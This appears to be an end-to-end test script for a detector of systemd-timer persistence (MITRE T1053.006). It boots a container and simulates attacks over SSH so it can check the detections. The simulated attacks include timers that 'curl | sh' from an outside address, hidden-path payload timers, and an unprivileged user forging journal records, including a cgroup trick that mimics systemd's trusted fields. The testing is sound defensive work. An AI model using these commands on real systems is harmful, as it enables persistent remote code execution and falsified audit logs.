#!/usr/bin/env python3
"""jcorr end to end against a real systemd 252 booted as PID 1 of a container.

    e2e_container.py --jcorr BIN --rules DIR --source-dir DIR --work DIR

Boots the cached Debian 12 tree (tests/e2e/build-tree.sh builds it when missing) with
systemd-nspawn, follows its journal directory with `jcorr run` (shipped rules, a signed
webhook to a receiver on 127.0.0.1), drives real SSH sessions into it over a veth pair
and plays the T1053.006 attack forms, the benign look-alikes and forgeries by an
unprivileged user. It asserts while the daemon runs that every attack is reported
within kLatency seconds of its timer starting with the right user, session, source
address, timer and service, that nothing else is reported, and that the receiver got
every detection with a valid signature; then that `jcorr replay` of the container's
journal files, and of `journalctl -o export` of them, reports the same detection ids,
and that the sample journals agree with the real records (compare_samples.py).

Every step is named; the first that fails stops the test with "e2e: step 'NAME'
failed: REASON" on stderr and exit status 1 (the container and the processes it
started are stopped). Exit status 0 only when everything passed. Needs root.
"""
import argparse
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from contextlib import contextmanager

kMachineId = "4a636f7272e2e0000000000000000001"
kHostAddr = "10.253.0.1"
kGuestAddr = "10.253.0.2"
kHostIf = "ve-jcorr-e2e"
kLatency = 5.0  # seconds from a timer's start record to the detection on stdout
kSecret = "e2e-webhook-secret"


class StepFailed(Exception):
    pass


def log(msg):
    print(f"[e2e {time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


def fail(msg):
    raise StepFailed(msg)


current_step = ["setup"]


@contextmanager
def step(name):
    current_step[0] = name
    start = time.monotonic()
    log(f"step '{name}'")
    yield
    log(f"step '{name}' ok ({time.monotonic() - start:.1f}s)")


def run(cmd, timeout=60, check=True, input=None):
    try:
        p = subprocess.run(cmd, input=input, capture_output=True, text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        fail(f"{' '.join(cmd)} did not finish within {timeout}s")
    if check and p.returncode != 0:
        fail(f"{' '.join(cmd)} exited {p.returncode}: {p.stderr.strip()[-2000:]}")
    return p


def wait_for(pred, timeout, interval=0.1):
    end = time.monotonic() + timeout
    while True:
        v = pred()
        if v:
            return v
        if time.monotonic() >= end:
            return None
        time.sleep(interval)


class Container:
    """The booted tree: systemd-nspawn with a private network and one veth pair."""

    def __init__(self, root, work):
        self.root = root
        self.work = work
        self.proc = None
        self.leader = None
        self.console = os.path.join(work, "console.log")
        self.key = None

    def boot(self):
        subprocess.run(["ip", "link", "del", kHostIf], capture_output=True)
        self.proc = subprocess.Popen(
            ["systemd-nspawn", "-D", self.root, "-b", "--register=no", "--keep-unit", "--private-network",
             f"--network-veth-extra={kHostIf}:host0", "-M", "e2e-bookworm"],
            stdin=subprocess.DEVNULL, stdout=open(self.console, "w"), stderr=subprocess.STDOUT)

        def leader():
            if self.proc.poll() is not None:
                fail(f"systemd-nspawn exited {self.proc.returncode} while booting: {self.console_tail()}")
            try:
                children = open(f"/proc/{self.proc.pid}/task/{self.proc.pid}/children").read().split()
            except OSError:
                return None
            for c in children:
                try:
                    if open(f"/proc/{c}/comm").read().strip() == "systemd":
                        return int(c)
                except OSError:
                    pass
            return None

        self.leader = wait_for(leader, 30)
        if not self.leader:
            fail(f"no systemd process under systemd-nspawn within 30s: {self.console_tail()}")

    def console_tail(self):
        try:
            return "console:\n" + "".join(open(self.console, errors="replace").readlines()[-25:])
        except OSError:
            return "(no console log)"

    def enter(self, *cmd, timeout=60, check=True):
        """Runs cmd inside the container (all its namespaces, its root)."""
        return run(["nsenter", "-t", str(self.leader), "-m", "-u", "-i", "-n", "-p", "-r", "-w", *cmd],
                   timeout=timeout, check=check)

    def wait_running(self):
        # systemctl cannot connect until PID 1 has set up /run/systemd/private, and says
        # "offline" until /run/systemd/system exists.
        deadline = time.monotonic() + 90
        while True:
            p = self.enter("systemctl", "is-system-running", "--wait", timeout=90, check=False)
            if p.stdout.strip() not in ("", "offline") or time.monotonic() > deadline:
                break
            if self.proc.poll() is not None:
                fail(f"systemd-nspawn exited {self.proc.returncode} while booting: {self.console_tail()}")
            time.sleep(0.5)
        state = p.stdout.strip()
        if state not in ("running", "degraded"):
            fail(f"the container's systemd did not finish booting: is-system-running says {state!r} "
                 f"{p.stderr.strip()}\n{self.console_tail()}")
        if state == "degraded":
            failed = self.enter("systemctl", "--failed", "--no-legend", check=False).stdout.strip()
            log(f"container is degraded (failed units: {failed})")
        return state

    def network(self):
        run(["ip", "addr", "add", f"{kHostAddr}/30", "dev", kHostIf])
        run(["ip", "link", "set", kHostIf, "up"])
        ns = ["nsenter", "-t", str(self.leader), "-n"]
        run(ns + ["ip", "link", "set", "lo", "up"])
        run(ns + ["ip", "addr", "add", f"{kGuestAddr}/30", "dev", "host0"])
        run(ns + ["ip", "link", "set", "host0", "up"])

    def ssh_args(self, user, extra=()):
        return ["ssh", "-i", self.key, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10", *extra, f"{user}@{kGuestAddr}"]

    def ssh(self, user, script, timeout=120, check=True):
        """One SSH session of user running script with bash; returns the completed process."""
        p = run(self.ssh_args(user, ["-o", "BatchMode=yes"]) + ["bash", "-s"], input=script, timeout=timeout,
                check=False)
        if check and p.returncode != 0:
            fail(f"ssh {user}@{kGuestAddr} exited {p.returncode}: {p.stderr.strip()[-1500:]}")
        return p

    def stop(self):
        if not self.proc or self.proc.poll() is not None:
            return
        self.proc.send_signal(signal.SIGTERM)  # systemd-nspawn asks the container's systemd to halt
        try:
            self.proc.wait(timeout=45)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


class Daemon:
    """`jcorr run`, its stdout read line by line and stamped with the arrival time."""

    def __init__(self, jcorr, config, work):
        self.lines = []
        self.lock = threading.Lock()
        self.stderr_path = os.path.join(work, "daemon.log")
        self.proc = subprocess.Popen([jcorr, "run", "--config", config], stdout=subprocess.PIPE,
                                     stderr=open(self.stderr_path, "w"), text=True)
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        for line in self.proc.stdout:
            t = time.time()
            try:
                d = json.loads(line)
            except ValueError:
                d = {"unparsable": line}
            with self.lock:
                self.lines.append((t, d))

    def detections(self):
        with self.lock:
            return list(self.lines)

    def log_text(self):
        return open(self.stderr_path, errors="replace").read()

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
                fail("jcorr run did not stop within 30s of SIGTERM")
        return self.proc.returncode


def journal_records(journal_dir, *matches):
    p = run(["journalctl", "-D", journal_dir, "-o", "json", "--no-pager", *matches], check=False)
    out = []
    for line in p.stdout.splitlines():
        try:
            out.append(json.loads(line))
        except ValueError:
            pass
    return out


def session_of(out):
    m = re.search(r"E2E session=(\d+) client=(\S+) (\d+)", out)
    if not m:
        fail(f"the SSH session did not report its id and client address; it printed: {out[-500:]}")
    return m.group(1), m.group(2), m.group(3)


kSessionLine = 'echo "E2E session=$XDG_SESSION_ID client=$SSH_CLIENT"\n'


def seqnum(record):
    return int(record["__CURSOR"].split(";i=")[1].split(";")[0], 16)


def logind_stored_first(journal_dir, src_port):
    """True when journald stored logind's "New session" of the login from src_port before
    the sshd monitor's "pam_unix(sshd:session): session opened". sshd logs the latter
    first, but through another socket (/dev/log) than logind (the native socket), and
    journald may serve the sockets in either order; the user-timer rule has a step for
    each order, and the test logs which one it saw."""
    recs = journal_records(journal_dir, "_COMM=sshd")
    pid = next((r["_PID"] for r in recs if r.get("MESSAGE", "").startswith("Accepted ")
                and f" port {src_port} " in r.get("MESSAGE", "")), None)
    pam = next((r for r in recs if r.get("_PID") == pid
                and r.get("MESSAGE", "").startswith("pam_unix(sshd:session): session opened")), None)
    new = next((r for r in journal_records(journal_dir, "MESSAGE_ID=8d45620c1a4348dbb17410da57c60c66",
                                           "_COMM=systemd-logind") if r.get("LEADER") == pid), None)
    return bool(pam and new and seqnum(new) < seqnum(pam))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--jcorr", required=True)
    ap.add_argument("--rules", required=True)
    ap.add_argument("--source-dir", required=True)
    ap.add_argument("--work", required=True)
    ap.add_argument("--cache", default=os.environ.get("JCORR_E2E_CACHE", "/var/cache/jcorr-e2e"))
    ap.add_argument("--keep", action="store_true", help="leave the work directory behind")
    args = ap.parse_args()
    started = time.monotonic()
    work = os.path.abspath(args.work)
    container = None
    daemon = None
    receiver = None
    try:
        if os.geteuid() != 0:
            fail("must run as root (systemd-nspawn, nsenter, ip)")
        shutil.rmtree(work, ignore_errors=True)
        os.makedirs(work)

        with step("tools present"):
            missing = [t for t in ("systemd-nspawn", "nsenter", "ip", "ssh", "journalctl", "debootstrap")
                       if not shutil.which(t)]
            if missing:
                fail(f"missing tools: {', '.join(missing)} (tools/install-deps.sh installs them)")

        with step("build or reuse the Debian 12 tree"):
            p = run([os.path.join(args.source_dir, "tests/e2e/build-tree.sh"), args.cache], timeout=900)
            tree = p.stdout.strip().splitlines()[-1]
            key = os.path.join(args.cache, "id_ed25519")

        with step("copy the tree for this run"):
            root = os.path.join(work, "root")
            run(["cp", "-a", tree, root], timeout=300)
            journal_parent = os.path.join(root, "var/log/journal")
            journal_dir = os.path.join(journal_parent, kMachineId)

        with step("start the webhook receiver"):
            secret_file = os.path.join(work, "webhook.secret")
            with open(secret_file, "w") as f:
                f.write(kSecret + "\n")
            os.chmod(secret_file, 0o600)
            port_file = os.path.join(work, "receiver.port")
            receiver_log = os.path.join(work, "receiver.jsonl")
            receiver = subprocess.Popen(
                [sys.executable, os.path.join(args.source_dir, "tests/integration/webhook/receiver.py"),
                 "--port-file", port_file, "--log", receiver_log, "--secret-file", secret_file],
                stdout=subprocess.DEVNULL, stderr=open(os.path.join(work, "receiver.stderr"), "w"))
            if not wait_for(lambda: os.path.exists(port_file), 10):
                fail("the receiver did not write its port within 10s")
            port = int(open(port_file).read())
            with open(os.path.join(work, "webhooks.json"), "w") as f:
                json.dump({"webhooks": [{"name": "e2e", "url": f"http://127.0.0.1:{port}/jcorr",
                                         "spool_dir": "spool", "secret_file": "webhook.secret",
                                         "backoff": {"base": "200ms", "max": "2s"}}]}, f)

        with step("boot the container"):
            container = Container(root, work)
            container.key = key
            container.boot()
            state = container.wait_running()
            log(f"container systemd is {state} (leader pid {container.leader})")
            if not os.path.isdir(journal_dir):
                fail(f"the container's journald made no {journal_dir}")

        with step("start jcorr run on the container's journal directory"):
            config = os.path.join(work, "jcorr.json")
            with open(config, "w") as f:
                json.dump({"rules": os.path.abspath(args.rules), "follow": {"directory": journal_dir},
                           "state_directory": "state", "start_at": "head",
                           "outputs": {"stdout": True, "webhooks": "webhooks.json"},
                           "metrics": {"listen": "127.0.0.1:0"}, "log_level": "info"}, f, indent=1)
            daemon = Daemon(args.jcorr, config, work)
            if not wait_for(lambda: "caught up; following" in daemon.log_text() or daemon.proc.poll() is not None,
                            30) or daemon.proc.poll() is not None:
                fail(f"jcorr run did not catch up within 30s (exit {daemon.proc.poll()}):\n{daemon.log_text()[-3000:]}")

        with step("container network (veth) and sshd"):
            container.network()
            if not wait_for(lambda: container.ssh("alice", "true", check=False).returncode == 0, 30, 1.0):
                fail(f"no SSH login as alice@{kGuestAddr} within 30s: "
                     f"{container.ssh('alice', 'true', check=False).stderr.strip()}")

        expected = []  # (scene, rule, {value: expected}, timer unit, user-level?)
        nothing = []   # scenes that must report nothing

        # ---- attacks ----
        with step("attack: system timer over SSH with sudo (alice)"):
            out = container.ssh("alice", kSessionLine + """
sleep 1
printf '[Unit]\\nDescription=Backup sync\\n[Service]\\nType=oneshot\\nExecStart=/usr/local/bin/backup-sync\\n' | sudo tee /etc/systemd/system/backup-sync.service >/dev/null
sleep 1.5
printf '[Unit]\\nDescription=Backup sync schedule\\n[Timer]\\nOnCalendar=*:0/15\\n[Install]\\nWantedBy=timers.target\\n' | sudo tee /etc/systemd/system/backup-sync.timer >/dev/null
sleep 1
sudo systemctl daemon-reload
sleep 1
sudo systemctl enable --now backup-sync.timer
sleep 1
""").stdout
            sid, ip, sport = session_of(out)
            expected.append(("system timer with sudo", "t1053.006-system-timer-ssh-sudo",
                             {"user": "alice", "session": sid, "src_ip": ip, "src_port": sport,
                              "timer": "backup-sync.timer", "service": "backup-sync.service"}, "backup-sync.timer", False))

        with step("attack: direct root login"):
            out = container.ssh("root", kSessionLine + """
sleep 1
printf '[Service]\\nExecStart=/usr/local/sbin/kworker-update\\n' > /etc/systemd/system/kworker-update.service
printf '[Timer]\\nOnBootSec=1min\\nOnUnitActiveSec=1h\\n[Install]\\nWantedBy=timers.target\\n' > /etc/systemd/system/kworker-update.timer
sleep 1
systemctl daemon-reload
systemctl enable --now kworker-update.timer 2>/dev/null
sleep 2
""").stdout
            sid, ip, sport = session_of(out)
            expected.append(("root login", "t1053.006-system-timer-ssh-root",
                             {"user": "root", "session": sid, "src_ip": ip, "src_port": sport,
                              "timer": "kworker-update.timer", "service": "kworker-update.service"},
                             "kworker-update.timer", False))

        with step("attack: user timer with loginctl enable-linger (bob)"):
            out = container.ssh("bob", kSessionLine + """
mkdir -p ~/.config/systemd/user
sleep 1
printf '[Unit]\\nDescription=Cache refresh\\n[Service]\\nType=oneshot\\nExecStart=/usr/bin/true\\n' > ~/.config/systemd/user/cache-refresh.service
printf '[Unit]\\nDescription=Cache refresh schedule\\n[Timer]\\nOnActiveSec=8s\\nOnUnitActiveSec=6s\\nAccuracySec=1s\\n[Install]\\nWantedBy=timers.target\\n' > ~/.config/systemd/user/cache-refresh.timer
systemctl --user daemon-reload
sleep 1
systemctl --user enable --now cache-refresh.timer 2>/dev/null
loginctl enable-linger
sleep 1
""").stdout
            sid, ip, sport = session_of(out)
            linger_values = {"user": "bob", "session": sid, "src_ip": ip, "src_port": sport,
                             "timer": "cache-refresh.timer", "service": "cache-refresh.service"}
            expected.append(("user timer", "t1053.006-user-timer-ssh", linger_values, "cache-refresh.timer", True))
            expected.append(("user timer kept by linger", "t1053.006-user-timer-lingering", linger_values,
                             None, True))
            # the service must start after the session ended: wait for it
            time.sleep(10)

        with step("attack: sudo systemd-run --on-active (alice)"):
            p = container.ssh("alice", kSessionLine + """
sleep 1
sudo systemd-run --on-active=1h /bin/sh -c 'curl -s http://198.51.100.7/u | sh'
sleep 1
""")
            sid, ip, sport = session_of(p.stdout)
            m = re.search(r"Running timer as unit: (run-\S+\.timer)", p.stderr + p.stdout)
            if not m:
                fail(f"systemd-run did not name its timer: {p.stderr}")
            timer = m.group(1)
            values = {"user": "alice", "session": sid, "src_ip": ip, "src_port": sport,
                      "timer": timer, "service": timer[:-6] + ".service"}
            expected.append(("transient timer with sudo", "t1053.006-transient-timer-sudo", values, timer, False))
            expected.append(("transient timer with sudo: download-and-run", "t1053.006-timer-suspicious-exec",
                             dict(values, source_rule="t1053.006-transient-timer-sudo"), timer, False))

        with step("attack: systemd-run --user --on-calendar (bob)"):
            p = container.ssh("bob", kSessionLine + """
sleep 1
systemd-run --user --on-calendar='*-*-* 03:00:00' /bin/sh -c 'python3 ~/.cache/.s.py'
sleep 1
""")
            sid, ip, sport = session_of(p.stdout)
            m = re.search(r"Running timer as unit: (run-\S+\.timer)", p.stderr + p.stdout)
            if not m:
                fail(f"systemd-run --user did not name its timer: {p.stderr}")
            timer = m.group(1)
            values = {"user": "bob", "session": sid, "src_ip": ip, "src_port": sport,
                      "timer": timer, "service": timer[:-6] + ".service"}
            expected.append(("transient user timer", "t1053.006-user-timer-ssh", values, timer, True))
            expected.append(("transient user timer: hidden path", "t1053.006-timer-suspicious-exec",
                             dict(values, source_rule="t1053.006-user-timer-ssh"), timer, True))

        # ---- benign look-alikes ----
        with step("benign: sudo apt-get install of a package that starts its timer (logrotate)"):
            container.ssh("alice", kSessionLine + """
sleep 1
sudo apt-get install -y /opt/e2e-debs/*.deb >/tmp/apt.log 2>&1 || { cat /tmp/apt.log >&2; exit 1; }
sleep 1
systemctl is-active logrotate.timer
""", timeout=180)
            if not journal_records(journal_dir, "UNIT=logrotate.timer", "_PID=1"):
                fail("installing logrotate did not start logrotate.timer (no PID 1 record with UNIT=logrotate.timer)")
            nothing.append("apt-get install logrotate")

        with step("benign: an admin restarts a service"):
            container.ssh("alice", kSessionLine + """
sleep 1
sudo systemctl daemon-reload
sleep 1
sudo systemctl restart ssh.service
sudo systemctl status --no-pager ssh.service >/dev/null
sleep 1
""")
            nothing.append("service restart")

        with step("benign: failed passwords"):
            askpass = os.path.join(work, "askpass.sh")
            with open(askpass, "w") as f:
                f.write("#!/bin/sh\necho wrong-password\n")
            os.chmod(askpass, 0o755)
            env = dict(os.environ, SSH_ASKPASS=askpass, SSH_ASKPASS_REQUIRE="force", DISPLAY="none")
            for user in ("bob", "alice", "nosuchuser"):
                subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                                "-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no",
                                "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1",
                                f"{user}@{kGuestAddr}", "true"], env=env, capture_output=True, timeout=60,
                               stdin=subprocess.DEVNULL)
                time.sleep(0.5)
            if not any("Failed password" in r.get("MESSAGE", "") for r in
                       journal_records(journal_dir, "SYSLOG_IDENTIFIER=sshd")):
                fail("the failed logins left no 'Failed password' record")
            nothing.append("failed passwords")

        # ---- forgeries by mallory ----
        with step("forgeries by an unprivileged user (mallory), inside a genuine admin's session window"):
            # alice is genuinely logged in and has run sudo systemctl daemon-reload and
            # enable evil.timer (which fails: no such unit), a partial match of the sudo
            # rule waiting for evil.timer to start: mallory's forged "Started evil.timer"
            # would complete it if it were accepted.
            admin = subprocess.Popen(container.ssh_args("alice", ["-o", "BatchMode=yes"]) + ["bash", "-s"],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True)
            admin.stdin.write("sudo systemctl daemon-reload\nsudo systemctl enable evil.timer 2>/dev/null\n"
                              "sleep 8\n")
            admin.stdin.close()
            time.sleep(2)
            container.ssh("mallory", kSessionLine + r"""
sleep 1
logger -t sshd -p auth.info 'Accepted publickey for root from 203.0.113.66 port 41000 ssh2: ED25519 SHA256:forged'
logger -t sshd -p authpriv.info --id=1 'pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)'
echo '   root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/systemctl enable --now evil.timer' | systemd-cat -t sudo -p notice
logger -t sudo -p authpriv.notice '   mallory : TTY=pts/0 ; PWD=/home/mallory ; USER=root ; COMMAND=/usr/bin/systemctl enable --now evil.timer'
printf 'MESSAGE=New session 9999 of user root.\nMESSAGE_ID=8d45620c1a4348dbb17410da57c60c66\nSESSION_ID=9999\nUSER_ID=root\nLEADER=1\nSYSLOG_IDENTIFIER=systemd-logind\n_PID=1\n_UID=0\n_COMM=systemd-logind\n' | logger --journald
printf 'MESSAGE=Reloading.\nSYSLOG_IDENTIFIER=systemd\n_PID=1\n_UID=0\n_COMM=systemd\n_SYSTEMD_UNIT=init.scope\n' | logger --journald
sleep 0.5
printf 'MESSAGE=Started evil.timer - Evil.\nMESSAGE_ID=39f53479d3a045ac8e11786248231fbf\nUNIT=evil.timer\nJOB_TYPE=start\nJOB_RESULT=done\nSYSLOG_IDENTIFIER=systemd\n_PID=1\n_UID=0\n_COMM=systemd\n_TRANSPORT=journal\n_SYSTEMD_UNIT=init.scope\n' | logger --journald
printf 'MESSAGE=Started evil-user.timer - Evil.\nMESSAGE_ID=39f53479d3a045ac8e11786248231fbf\nUSER_UNIT=evil-user.timer\nJOB_TYPE=start\nJOB_RESULT=done\nSYSLOG_IDENTIFIER=systemd\n_SYSTEMD_USER_UNIT=init.scope\n_SYSTEMD_UNIT=user@1003.service\n' | logger --journald
printf 'MESSAGE=Started evil-user.service - Evil.\nMESSAGE_ID=39f53479d3a045ac8e11786248231fbf\nUSER_UNIT=evil-user.service\nSYSLOG_IDENTIFIER=systemd\n' | logger --journald
printf 'MESSAGE=Started run-r0123456789abcdef0123456789abcdef.timer - /bin/sh -c id.\nMESSAGE_ID=39f53479d3a045ac8e11786248231fbf\nUNIT=run-r0123456789abcdef0123456789abcdef.timer\nSYSLOG_IDENTIFIER=systemd\n' | logger --journald
sleep 1
""")
            # The user manager's cgroup is delegated to its user: a process of mallory's
            # manager (systemd-run --user) may move itself into the manager's init.scope
            # and, as a program named "systemd" (a copy of perl, which stays alive while
            # journald reads its /proc), log natively with the manager's _COMM, _UID,
            # _SYSTEMD_UNIT and _SYSTEMD_USER_UNIT. Only _PID and _EXE differ.
            container.ssh("mallory", kSessionLine + r"""
cp /usr/bin/perl /tmp/systemd
cat > /tmp/forge-manager.sh <<'EOS'
for root in /sys/fs/cgroup/unified /sys/fs/cgroup; do
  scope=$root/user.slice/user-$(id -u).slice/user@$(id -u).service/init.scope
  [ -w "$scope/cgroup.procs" ] && echo $$ > "$scope/cgroup.procs" && break
done
exec /tmp/systemd -MSocket -e '
  socket(my $s, PF_UNIX, SOCK_DGRAM, 0) or die "socket: $!";
  my $to = pack_sockaddr_un("/run/systemd/journal/socket");
  for my $m ("MESSAGE=Reloading.\n",
             "MESSAGE=Started evil-manager.timer - Evil.\nMESSAGE_ID=39f53479d3a045ac8e11786248231fbf\n" .
             "USER_UNIT=evil-manager.timer\nJOB_TYPE=start\nJOB_RESULT=done\n") {
    send($s, "SYSLOG_IDENTIFIER=systemd\nPRIORITY=6\n" . $m, 0, $to) or die "send: $!";
  }
  sleep 2;'
EOS
systemd-run --user --quiet sh /tmp/forge-manager.sh
sleep 3
""")
            in_scope = [r for r in journal_records(journal_dir, "USER_UNIT=evil-manager.timer")
                        if r.get("_SYSTEMD_USER_UNIT") == "init.scope" and r.get("_COMM") == "systemd"]
            if not in_scope:
                fail("mallory's process could not log from her user manager's init.scope "
                     f"(records: {journal_records(journal_dir, 'USER_UNIT=evil-manager.timer')})")
            try:
                admin.wait(timeout=60)
            except subprocess.TimeoutExpired:
                admin.kill()
                fail("the admin's session did not end")
            forged = [r for r in journal_records(journal_dir, "_UID=1003")
                      if r.get("UNIT") == "evil.timer" or "evil.timer" in r.get("MESSAGE", "")]
            if not forged:
                fail("mallory's forged records are not in the journal")
            for r in forged:
                if r.get("_PID") == "1" or r.get("_UID") != "1003":
                    fail(f"journald accepted a forged trusted field: {r}")
            nothing.append("forgeries")

        with step("every attack reported within %.0fs of its timer starting, with the right values" % kLatency):
            raced = {v["src_port"] for _, _, v, _, user_level in expected
                     if user_level and logind_stored_first(journal_dir, v["src_port"])}

            def keys(values):
                return values

            def find(rule, values):
                for t, d in daemon.detections():
                    if d.get("rule") == rule and all(str(d.get("values", {}).get(k)) == v
                                                     for k, v in keys(values).items()):
                        return t, d
                return None

            for scene, rule, values, timer, user_level in expected:
                if values["src_port"] in raced:
                    log(f"{scene}: journald stored logind's New session before sshd's pam record "
                        f"(the user-timer rule takes the session in either order)")
                got = wait_for(lambda: find(rule, values), kLatency + 15, 0.2)
                if not got:
                    same_rule = [d.get("values") for _, d in daemon.detections() if d.get("rule") == rule]
                    fail(f"{scene}: no {rule} detection with {values}; that rule reported: {same_rule}\n"
                         f"run `jcorr explain --rule {rule} {journal_dir}` to see why")
                arrival, d = got
                if timer:
                    recs = journal_records(journal_dir, ("USER_UNIT=" if user_level else "UNIT=") + timer,
                                           "MESSAGE_ID=39f53479d3a045ac8e11786248231fbf")
                    if not recs:
                        fail(f"{scene}: no record of {timer} starting in the journal")
                    timer_started = int(recs[0]["__REALTIME_TIMESTAMP"]) / 1e6
                else:
                    timer_started = d["time_us"] / 1e6
                lag = arrival - timer_started
                log(f"{scene}: {rule} {d['id']} reported {lag:.2f}s after the timer record")
                if lag > kLatency:
                    fail(f"{scene}: {rule} reported {lag:.2f}s after its timer started (limit {kLatency}s)")

        with step("nothing reported for the benign and forged activity"):
            time.sleep(3)  # the last scenes' records have been read by now (wall-clock watermark: 1s)
            wanted = {(rule, tuple(sorted(values.items()))) for _, rule, values, _, _ in expected}
            extra = []
            for _, d in daemon.detections():
                v = d.get("values", {})
                key = None
                for _, rule, values, _, _ in expected:
                    if d.get("rule") == rule and all(str(v.get(k)) == x for k, x in keys(values).items()):
                        key = (rule, tuple(sorted(values.items())))
                # a raced login's lingering detection may or may not come (see above)
                if key not in wanted and not (d.get("rule") == "t1053.006-user-timer-lingering"
                                              and v.get("src_port") in raced):
                    extra.append(f"{d.get('rule')}: {d.get('summary')}")
            if extra:
                fail("unexpected detections (benign or forged activity was reported):\n  " + "\n  ".join(extra))
            log(f"benign/forged scenes with no detection: {', '.join(nothing)}")

        live_ids = sorted({d["id"] for _, d in daemon.detections()})

        with step("the webhook receiver got every detection, signed"):
            def received():
                try:
                    entries = [json.loads(l) for l in open(receiver_log)]
                except OSError:
                    return None
                return entries if {e["headers"].get("Idempotency-Key") for e in entries} >= set(live_ids) else None

            entries = wait_for(received, 20, 0.2)
            if entries is None:
                got = {json.loads(l)["headers"].get("Idempotency-Key") for l in open(receiver_log)} \
                    if os.path.exists(receiver_log) else set()
                fail(f"the receiver is missing detections {sorted(set(live_ids) - got)}")
            bad = [e["headers"].get("Idempotency-Key") for e in entries if not e.get("signature_ok")]
            if bad:
                fail(f"requests without a valid X-Jcorr-Signature: {bad}")
            for e in entries:
                body = json.loads(e["body"])
                if body["id"] != e["headers"].get("Idempotency-Key"):
                    fail(f"body id {body['id']} differs from its Idempotency-Key")

        with step("stop the container and let jcorr read its shutdown"):
            container.stop()
            if container.proc.returncode not in (0, 133):
                log(f"systemd-nspawn exited {container.proc.returncode}")
            time.sleep(3)
            late = sorted({d["id"] for _, d in daemon.detections()} - set(live_ids))
            if late:
                fail(f"the container's shutdown was reported: {[d for _, d in daemon.detections() if d['id'] in late]}")
            rc = daemon.stop()
            if rc != 0:
                fail(f"jcorr run exited {rc} on SIGTERM:\n{daemon.log_text()[-2000:]}")

        def replay_ids(inputs, what):
            p = run([args.jcorr, "replay", "--rules", args.rules, "--output", "json", *inputs], timeout=300,
                    check=False)
            if p.returncode != 0:
                fail(f"jcorr replay of {what} exited {p.returncode}: {p.stderr.strip()[-2000:]}")
            return sorted({json.loads(l)["id"] for l in p.stdout.splitlines() if l.strip()})

        with step("replay of the container's journal files: the same detection ids as live"):
            files = sorted(os.listdir(journal_dir))
            if not any(f.startswith("user-") for f in files):
                fail(f"no user-UID.journal file in {journal_dir}: {files}")
            ids = replay_ids([journal_dir], "the journal directory")
            if ids != live_ids:
                fail(f"replay of {journal_dir} ({files}) gave {ids}, live gave {live_ids}")

        with step("replay of journalctl -o export of them: the same detection ids"):
            export = os.path.join(work, "container.export")
            with open(export, "w") as f:
                p = subprocess.run(["journalctl", "-D", journal_dir, "-o", "export", "--no-pager"], stdout=f,
                                   stderr=subprocess.PIPE, timeout=120)
            if p.returncode != 0:
                fail(f"journalctl -o export failed: {p.stderr.decode(errors='replace')}")
            ids = replay_ids([export], "the export")
            if ids != live_ids:
                fail(f"replay of the export gave {ids}, live gave {live_ids}")

        with step("the sample journals agree with the real records"):
            p = run([sys.executable, os.path.join(args.source_dir, "tests/e2e/compare_samples.py"), export,
                     os.path.join(args.source_dir, "sample-journals")], timeout=300, check=False)
            if p.returncode != 0:
                fail("tools/jgen's sample journals differ from what the real programs wrote "
                     f"(fix whichever is wrong):\n{p.stdout}{p.stderr}")
            log(p.stdout.strip())

        log(f"passed: {len(live_ids)} detections live, in replay and at the receiver "
            f"({time.monotonic() - started:.0f}s)")
        return 0
    except StepFailed as e:
        print(f"e2e: step '{current_step[0]}' failed: {e}", file=sys.stderr, flush=True)
        if daemon is not None:
            print(f"--- jcorr run log (last lines) ---\n{daemon.log_text()[-3000:]}", file=sys.stderr)
        return 1
    finally:
        for p in (daemon.proc if daemon else None, receiver):
            if p is not None and p.poll() is None:
                p.kill()
                p.wait()
        if container is not None:
            container.stop()
        subprocess.run(["ip", "link", "del", kHostIf], capture_output=True)
        if not args.keep and os.path.isdir(os.path.join(work, "root")):
            shutil.rmtree(os.path.join(work, "root"), ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
